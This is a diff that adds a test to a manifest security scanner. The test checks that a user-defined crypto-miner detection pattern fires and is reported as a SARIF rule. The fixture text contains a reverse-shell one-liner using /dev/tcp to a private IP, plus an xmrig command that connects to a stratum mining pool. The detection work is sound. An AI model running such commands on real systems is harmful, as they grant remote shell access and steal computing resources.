@@ -108,3 +108,18 @@ test('lookup: --stdin-name places standard input in the tree for the config look
   assert.equal(run(['scan', '-', '--stdin-name', 'team/job.yaml'], { cwd: dir, input: PRIVILEGED_CRONJOB }).status, 0);
   assert.equal(run(['scan', '-', '--stdin-name', 'other/job.yaml'], { cwd: dir, input: PRIVILEGED_CRONJOB }).status, 1);
 });
+
+test('custom patterns from the config run (on RE2) and their findings get a SARIF rule', () => {
+  const config = 'custom:\n  patterns:\n    - id: crypto-miner\n      pattern: "stratum\\\\+tcp://|xmrig"\n      severity: error\n';
+  const job = REVERSE_SHELL_JOB.replace('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', './xmrig -o stratum+tcp://pool.example:3333');
+  const dir = workspace({ '.jobsentinel.yaml': config, 'job.yaml': job });
+  const { status, json } = runJson(['scan', '.'], { cwd: dir });
+  assert.equal(status, 1);
+  const miner = json.findings.find((finding: { indicator: string }) => finding.indicator === 'crypto-miner');
+  assert.ok(miner, JSON.stringify(json.findings));
+  assert.equal(miner.severity, 'error');
+  assert.equal(json.summary.files, 1, 'the config file itself is not scanned as a manifest');
+  const log = JSON.parse(run(['scan', '.', '--format', 'sarif'], { cwd: dir }).stdout);
+  const result = log.runs[0].results.find((r: { ruleId: string }) => r.ruleId === 'crypto-miner');
+  assert.equal(log.runs[0].tool.driver.rules[result.ruleIndex].id, 'crypto-miner');
+});
